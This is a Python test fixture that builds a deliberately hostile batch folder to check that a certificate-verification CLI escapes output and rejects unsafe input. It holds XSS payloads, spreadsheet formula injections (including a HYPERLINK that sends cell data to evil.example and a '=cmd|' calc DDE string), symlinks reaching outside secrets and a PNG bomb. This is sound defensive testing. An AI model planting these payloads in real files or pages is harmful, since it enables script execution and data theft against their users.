"""A hostile batch for `credcheck verify`: every way a batch folder can lie or bite, in one place.

`build_hostile_batch(root)` writes

    root/batch/            the BATCH_DIR (declared.xlsx + packets/)
    root/outside/          files the batch links to but must never be read (secret markers)
    root/scratch/          the synthetic generator's own declared sheet (not part of the batch)

and returns a `HostileBatch` saying what a correct run reports for each planted thing.
Only three real certificate pages are rendered (two normal applicants); everything else is
built in memory by tests/hostile.py or is tiny (50×50 px frames, 200×100 pt text pages) so
reading it is quick.
"""

from __future__ import annotations

import io
import os
from dataclasses import dataclass, field
from pathlib import Path

from PIL import Image

from tests import hostile

AS_OF = "2025-09-30"
SECRET_MARKER = "CCSECRET-5d1e8a7c"  # ASCII: in the secret PDF's metadata
SECRET_MARKER_ZH = "绝密勿读泄露检查"  # CJK: in the secret PDF's text layer

# HTML payloads planted in declared cells and names; none may reach report.html unescaped.
XSS_NAME = "<script>alert('xss-name')</script>"
XSS_UNIT = "<img src=x onerror=alert('xss-unit')>"
XSS_AWARD = "<script>alert('xss-award')</script>"
XSS_FOLDER = "<svg onload=alert('xss-folder')>"
XSS_FILE = "<img src=x onerror=alert(5)>.pdf"
HTML_PAYLOADS = ("<script>alert(", "<img src=x onerror", "<svg onload")
FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'

# Codes of models/exceptions.py (UNREADABLE_DOCUMENT flags carry them as reasons "error=…").
EMPTY, UNSUPPORTED, CORRUPT, ENCRYPTED, BOMB = "CC101", "CC102", "CC103", "CC104", "CC105"
UNSAFE_PATH, PAGE_TOO_LARGE, TOO_LARGE = "CC109", "CC110", "CC111"
LINKED_FOLDER, BAD_NAME = "CC112", "CC113"

GBK_FILE = b"\xd6\xa4\xca\xe9.jpg"  # "证书.jpg" in GBK, as an archive made on Chinese Windows
GBK_FOLDER = b"HX-\xb2\xe2\xca\xd4"  # "HX-测试"


@dataclass
class HostileBatch:
    root: Path
    batch: Path
    outside: Path
    # file (relative to the batch) → the error code its UNREADABLE_DOCUMENT flag must give
    unreadable: dict[str, str] = field(default_factory=dict)
    # file → page → error code of a page that opened but could not be read
    page_failures: dict[str, dict[int, str]] = field(default_factory=dict)
    # file → (pages it holds, pages read): the per-file / per-applicant page limits cut
    page_cut: dict[str, tuple[int, int]] = field(default_factory=dict)
    # files not read at all because the applicant's page budget ran out
    skipped: set[str] = field(default_factory=set)
    # (file, page) → doc_type: evidence that must be read normally
    readable: dict[tuple[str, int], str] = field(default_factory=dict)
    # files with a damaged structure that the readers repair: read, never flagged
    repaired: set[str] = field(default_factory=set)
    # every applicant id results.json must hold (declared rows and packet folders)
    applicant_ids: set[str] = field(default_factory=set)
    normal_ids: set[str] = field(default_factory=set)


def _png(size: tuple[int, int] = (50, 50), color: int = 255) -> bytes:
    return hostile.image_bytes(Image.new("L", size, color), "PNG")


def _jpeg_noise(size: int = 200) -> bytes:
    import numpy as np

    rng = np.random.default_rng(5)
    arr = rng.integers(0, 255, (size, size, 3), dtype=np.uint8)
    buf = io.BytesIO()
    Image.fromarray(arr).save(buf, "JPEG", quality=90)
    return buf.getvalue()


def _secret_pdf(note: str) -> bytes:
    lines = [
        (72.0, 80.0, 28.0, "职业技能等级证书"),
        (72.0, 160.0, 16.0, f"姓名：{SECRET_MARKER_ZH}"),
        (72.0, 200.0, 16.0, f"备注：{note}"),
    ]
    return hostile.make_pdf(
        [hostile.PdfPage(content=hostile.cjk_text(lines))],
        info={"Title": SECRET_MARKER, "Author": SECRET_MARKER},
    )


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


# ---------------------------------------------------------------- normal applicants


def _normal_applicants(scratch: Path) -> tuple[list, list]:
    """Two clean synthetic applicants: the first with an ID card and a skill certificate,
    the second with a skill certificate only (3 rendered pages). Returns (plans, specs)."""
    from synth.batch import BatchPlan, plan_batch, write_declared

    def single(a, role: str):
        return next((f for f in a.files if len(f.pages) == 1 and f.pages[0].role == role), None)

    for seed in range(1, 50):
        plan = plan_batch(2, seed, faults=(), clean_share=1.0, difficulties={"clean": 1.0})
        a1, a2 = plan.applicants
        s1, i1, s2 = single(a1, "skill"), single(a1, "id_card"), single(a2, "skill")
        if s1 and i1 and s2:
            break
    else:  # pragma: no cover - the generator always finds one within a few seeds
        raise RuntimeError("no synthetic applicants with single-page skill and ID files")
    a1.files, a2.files = [s1, i1], [s2]
    scratch.mkdir(parents=True, exist_ok=True)
    write_declared(scratch, BatchPlan(plan.seed, [a1, a2], ()))  # fills a.written
    return [a1, a2], [s1, i1, s2]


# ---------------------------------------------------------------- declared.xlsx

HEADERS = {
    "applicant_id": "申报编号",
    "program": "申报项目",
    "name": "姓名",
    "gender": "性别",
    "ethnicity": "民族",
    "id_number": "身份证号",
    "birth_date": "出生日期",
    "work_unit": "工作单位",
    "prefecture": "所在地州",
    "occupation": "从事职业（工种）",
    "skill_level": "职业技能等级",
    "title": "专业技术职称",
    "education": "最高学历",
    "work_start": "参加工作时间",
    "team_size": "工作室成员人数",
}
AWARD_HEADERS = ["申报编号", "获奖项目", "奖励名称", "授予单位", "等级", "名次", "年度"]


def _write_declared(path: Path, rows: list[dict], awards: list[list]) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "申报人"
    ws.append([*HEADERS.values(), "备注"])
    for row in rows:
        if row.get("_blank"):
            ws.append([])
            continue
        ws.append([row.get(k, "") for k in HEADERS] + [row.get("note", "")])
    ws2 = wb.create_sheet("获奖情况")
    ws2.append(AWARD_HEADERS)
    for row in awards:
        ws2.append(row)
    wb.save(path)


def _hostile_rows(normal: list) -> tuple[list[dict], list[list]]:
    n1 = normal[0].written
    rows: list[dict] = [dict(a.written) for a in normal]
    rows += [
        # Files of every bad kind; a name that is a formula.
        {"applicant_id": "HX-BAD", "program": "新疆工匠", "name": FORMULA_NAME,
         "id_number": "12345", "skill_level": "技师", "note": "=1+1"},
        # Lies in every cell; no packet folder at all.
        {"applicant_id": "HX-LIES", "program": "=cmd|' /C calc'!A0", "name": XSS_NAME,
         "id_number": "65010219800101001X", "work_unit": XSS_UNIT, "birth_date": "1985年13月",
         "skill_level": "宇宙级技师", "team_size": "很多"},
        {"_blank": True},
        {"applicant_id": "HX-NOFOLDER", "program": "准东人才工作室", "name": "无材料",
         "id_number": ""},
        # The same 申报编号 twice: the second row is another person.
        {**n1, "name": "重复者", "id_number": "650102198001010011"},
        # An id that is a path: must not reach packets/HX-BAD.
        {"applicant_id": "../HX-BAD", "program": "新疆工匠", "name": "路径",
         "id_number": "1.23457E+17"},
        # No 申报编号: cannot become an applicant, reported as a batch problem.
        {"applicant_id": "", "program": "新疆工匠", "name": "无编号"},
        {"applicant_id": "HX-PAGES", "program": "新疆工匠", "name": "页数多",
         "id_number": "６５０１０２１９８００１０１００１１"},
        {"applicant_id": "HX-TIFF", "program": "新疆工匠", "name": "多帧图"},
    ]  # fmt: skip
    awards = [
        ["HX-LIES", "=1+1", "@SUM(1,2)", "+cmd|' /C calc'!A0", XSS_AWARD, "-1+2", "二〇二三"],
        ["HX-GHOST", "不存在的人", "荣誉称号", "某单位", "省级", "一等奖", "2023"],
        ["HX-BAD", "", "", "", "", "", "abc"],
    ]
    return rows, awards


# ---------------------------------------------------------------- packets


def _bad_files(hb: HostileBatch) -> None:
    """Every kind of unreadable file, odd names and links, in packets/HX-BAD."""
    folder = hb.batch / "packets" / "HX-BAD"
    folder.mkdir(parents=True)
    rel = "packets/HX-BAD/"
    cert = hostile.cert_pdf()
    plain = {
        "空文件.pdf": (b"", EMPTY),
        "照片.jpg": (hostile.truncated(_jpeg_noise(), 0.4), CORRUPT),
        "截图.png": (hostile.truncated(hostile.image_bytes(Image.new("RGB", (300, 300), "red"),
                                                          "PNG", compress_level=0), 0.5), CORRUPT),
        "证书.pdf": (hostile.HTML_PAGE, UNSUPPORTED),
        "损坏.pdf": (hostile.truncated(cert, 0.5), CORRUPT),
        "加密.pdf": (hostile.cert_pdf(user_password="secret"), ENCRYPTED),
        "总结.docx": (hostile.docx_bytes(), UNSUPPORTED),
        "说明.txt": ("这是一份说明文字，不是证书扫描件。\n".encode(), UNSUPPORTED),
        "IMG_0001.HEIC": (hostile.heic_header(), UNSUPPORTED),
        "炸弹.png": (hostile.bomb_png(100_000, 100_000), BOMB),
        "很长的文件名" * 13 + ".pdf": (hostile.HTML_PAGE, UNSUPPORTED),
        XSS_FILE: (hostile.truncated(cert, 0.3), CORRUPT),
        "=cmd|' -c calc'!A0.png": (b"", EMPTY),
        "控制\x1b[31m字符\n换行\t.png": (b"", EMPTY),
        "发票\u202efdp.exe": (hostile.docx_bytes(), UNSUPPORTED),
        "子目录/更深/再深/截断.tif": (hostile.truncated(hostile.multipage_tiff(3, (64, 64)), 0.4),
                                  CORRUPT),
        ".DS_Store": (b"\x00\x00\x00\x01Bud1" + b"\x00" * 64, UNSUPPORTED),
    }  # fmt: skip
    for name, (data, code) in plain.items():
        _write(folder / name, data)
        hb.unreadable[rel + name] = code
    # Broken xref table: both readers rebuild it, so the certificate is read.
    _write(folder / "修复.pdf", hostile.broken_xref(cert))
    hb.repaired.add(rel + "修复.pdf")
    # A 200 × 200 inch page: opens and counts, but rendering it is refused.
    _write(folder / "巨幅.pdf", hostile.make_pdf([hostile.PdfPage(14400, 14400)]))
    hb.page_failures[rel + "巨幅.pdf"] = {1: PAGE_TOO_LARGE}
    # Over MAX_FILE_BYTES (sparse: costs no disk), never hashed nor parsed.
    from models.constants import MAX_FILE_BYTES

    with open(folder / "巨大.pdf", "wb") as f:
        f.write(b"%PDF-1.4\n")
        f.truncate(MAX_FILE_BYTES + 1)
    hb.unreadable[rel + "巨大.pdf"] = TOO_LARGE
    # A FIFO would block a reader that opened it.
    os.mkfifo(folder / "管道.jpg")
    hb.unreadable[rel + "管道.jpg"] = UNSUPPORTED
    # Links: out of the batch (relative, absolute, to a folder), to a folder inside, broken,
    # a loop.
    (folder / "外链.pdf").symlink_to(Path("../../../outside/secret.pdf"))
    (folder / "外链绝对.png").symlink_to(hb.outside / "secret.pdf")
    (folder / "外部文件夹").symlink_to(hb.outside / "secretdir")
    (folder / "内部文件夹链接").symlink_to(Path("../HX-ORPHAN"))
    (folder / "断链.png").symlink_to(Path("不存在.png"))
    (folder / "循环.jpg").symlink_to(Path("循环.jpg"))
    hb.unreadable.update(
        {
            rel + "外链.pdf": UNSAFE_PATH,
            rel + "外链绝对.png": UNSAFE_PATH,
            rel + "外部文件夹": UNSAFE_PATH,
            rel + "内部文件夹链接": LINKED_FOLDER,
            rel + "断链.png": CORRUPT,
            rel + "循环.jpg": CORRUPT,
        }
    )
    # A name that is not UTF-8 (its bytes are a fine PNG): refused, named by escaped bytes.
    with open(os.path.join(os.fsencode(folder), GBK_FILE), "wb") as f:
        f.write(_png())
    hb.unreadable[rel + GBK_FILE.decode("utf-8", "backslashreplace")] = BAD_NAME


def _page_files(hb: HostileBatch) -> None:
    """Page limits: 50 per file, 200 per applicant (models/constants.py)."""
    from models.constants import MAX_PAGES_PER_APPLICANT, MAX_PAGES_PER_FILE

    # A TIFF of hundreds of tiny blank frames: read up to the per-file limit.
    tiff = "packets/HX-TIFF/百帧.tif"
    _write(hb.batch / tiff, hostile.multipage_tiff(200, (50, 50)))
    hb.page_cut[tiff] = (200, MAX_PAGES_PER_FILE)
    # Four identical 2000-page PDFs (identical bytes: one set of cached page readings) fill
    # the applicant's budget; the file after them is not read at all.
    many = hostile.many_pages_pdf(2000)
    n_full = MAX_PAGES_PER_APPLICANT // MAX_PAGES_PER_FILE
    for k in range(1, n_full + 1):
        name = f"packets/HX-PAGES/p{k}_千页.pdf"
        _write(hb.batch / name, many)
        hb.page_cut[name] = (2000, MAX_PAGES_PER_FILE)
    last = "packets/HX-PAGES/p9_最后.png"
    _write(hb.batch / last, _png())
    hb.skipped.add(last)


def _orphans(hb: HostileBatch) -> None:
    """Packet folders without a declared row, odd folder names, a folder that is a link."""
    packets = hb.batch / "packets"
    orphan = "packets/HX-ORPHAN/scan.tif"
    _write(hb.batch / orphan, hostile.truncated(hostile.multipage_tiff(2, (64, 64)), 0.3))
    hb.unreadable[orphan] = CORRUPT
    xss = f"packets/{XSS_FOLDER}/空.jpg"
    _write(hb.batch / xss, b"")
    hb.unreadable[xss] = EMPTY
    (packets / "HX-LINKED").symlink_to(hb.outside / "secretdir")
    hb.unreadable["packets/HX-LINKED"] = UNSAFE_PATH
    gbk = os.path.join(os.fsencode(packets), GBK_FOLDER)
    os.mkdir(gbk)
    with open(os.path.join(gbk, b"a.png"), "wb") as f:
        f.write(_png())
    label = GBK_FOLDER.decode("utf-8", "backslashreplace")
    hb.unreadable[f"packets/{label}/a.png"] = BAD_NAME
    hb.applicant_ids |= {"HX-ORPHAN", XSS_FOLDER, "HX-LINKED", label}


def build_hostile_batch(root: Path) -> HostileBatch:
    from synth.batch import build_packet_file

    root = Path(root)
    hb = HostileBatch(root=root, batch=root / "batch", outside=root / "outside")
    hb.batch.mkdir(parents=True)
    _write(hb.outside / "secret.pdf", _secret_pdf("外链"))
    _write(hb.outside / "secretdir" / "inner.pdf", _secret_pdf("外部文件夹"))

    normal, specs = _normal_applicants(root / "scratch")
    n1, n2 = normal
    for spec in specs:
        rel, data, docs = build_packet_file(spec)
        if spec is specs[2]:
            # Nested folders and a right-to-left override in the name: read like any file.
            ext = Path(rel).suffix
            rel = f"packets/{n2.applicant_id}/2023年/扫描件/\u202e技能证书{ext}"
        _write(hb.batch / rel, data)
        for d in docs:
            hb.readable[(rel, d["page"])] = d["doc_type"]
    hb.normal_ids = {n1.applicant_id, n2.applicant_id}

    rows, awards = _hostile_rows(normal)
    _write_declared(hb.batch / "declared.xlsx", rows, awards)
    hb.applicant_ids |= hb.normal_ids | {f"{n1.applicant_id}#2", "HX-BAD", "HX-LIES",
                                         "HX-NOFOLDER", "../HX-BAD", "HX-PAGES", "HX-TIFF"}  # fmt: skip

    _bad_files(hb)
    _page_files(hb)
    _orphans(hb)
    return hb


def snapshot(folder: Path) -> dict[bytes, tuple]:
    """Every entry under folder (links not followed): type, size, mtime, and the content hash
    of regular files (by size and mtime only above 64 MiB: sparse giants)."""
    import hashlib
    import stat

    out: dict[bytes, tuple] = {}
    base = os.fsencode(folder)
    for dirpath, dirnames, filenames in os.walk(base, followlinks=False):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            extra: object = None
            if stat.S_ISLNK(st.st_mode):
                extra = os.readlink(p)
            elif stat.S_ISREG(st.st_mode) and st.st_size <= 64 << 20:
                with open(p, "rb") as f:
                    extra = hashlib.sha256(f.read()).hexdigest()
            out[os.path.relpath(p, base)] = (st.st_mode, st.st_size, st.st_mtime_ns, extra)
    st = os.lstat(base)
    out[b"."] = (st.st_mode, st.st_size, st.st_mtime_ns, None)
    return out


def set_read_only(folder: Path, read_only: bool) -> None:
    """chmod the batch's folders a-w (or back to u+w). Root ignores it; the snapshot does not."""
    import stat

    base = os.fsencode(folder)
    dirs = [base] + [os.path.join(d, n) for d, ns, _ in os.walk(base) for n in ns]
    for d in dirs:
        if os.path.islink(d):
            continue
        mode = os.lstat(d).st_mode
        if read_only:
            os.chmod(d, mode & ~(stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH))
        else:
            os.chmod(d, mode | stat.S_IWUSR)


def credcheck_cmd() -> list[str]:
    """The installed `credcheck` script beside this interpreter, else the app via -c."""
    import sys

    exe = Path(sys.executable).with_name("credcheck")
    if exe.exists():
        return [str(exe)]
    return [sys.executable, "-c", "from pipelines.cli import app; app()"]


def cli_env() -> dict[str, str]:
    """Environment for CLI subprocesses: wide rich output (no wrapped messages)."""
    env = dict(os.environ)
    env["COLUMNS"] = "400"
    return env


if __name__ == "__main__":  # python -m tests.hostile_batch DIR: build one to look at
    import sys

    b = build_hostile_batch(Path(sys.argv[1]))
    print(b.batch)
